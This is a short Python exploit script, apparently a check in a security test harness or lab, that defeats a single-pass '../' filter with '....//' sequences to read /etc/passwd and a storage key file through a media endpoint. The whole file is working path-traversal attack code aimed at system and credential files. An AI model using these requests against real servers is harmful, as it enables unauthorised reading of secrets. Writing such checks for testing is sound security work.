#!/usr/bin/python3 -B
"""Path traversal: "../" is taken out of a name once, and "....//" becomes "../" (CWE-22)."""

from attack import Attack

KEY = "/etc/shop/storage.key"


def run(attack: Attack) -> bool:
    up = "....//" * 3
    passwd = attack.ask("GET", f"/media/image?name={up}etc/passwd")[1]
    key = attack.ask("GET", f"/media/image?name={up}{KEY[1:]}")[1]
    return attack.prove(key.startswith("media-77aa") and "www-data" in passwd, key=key)


Attack("T1190, T1005", ["edge", "media"], ["/etc/passwd", KEY]).main(run)
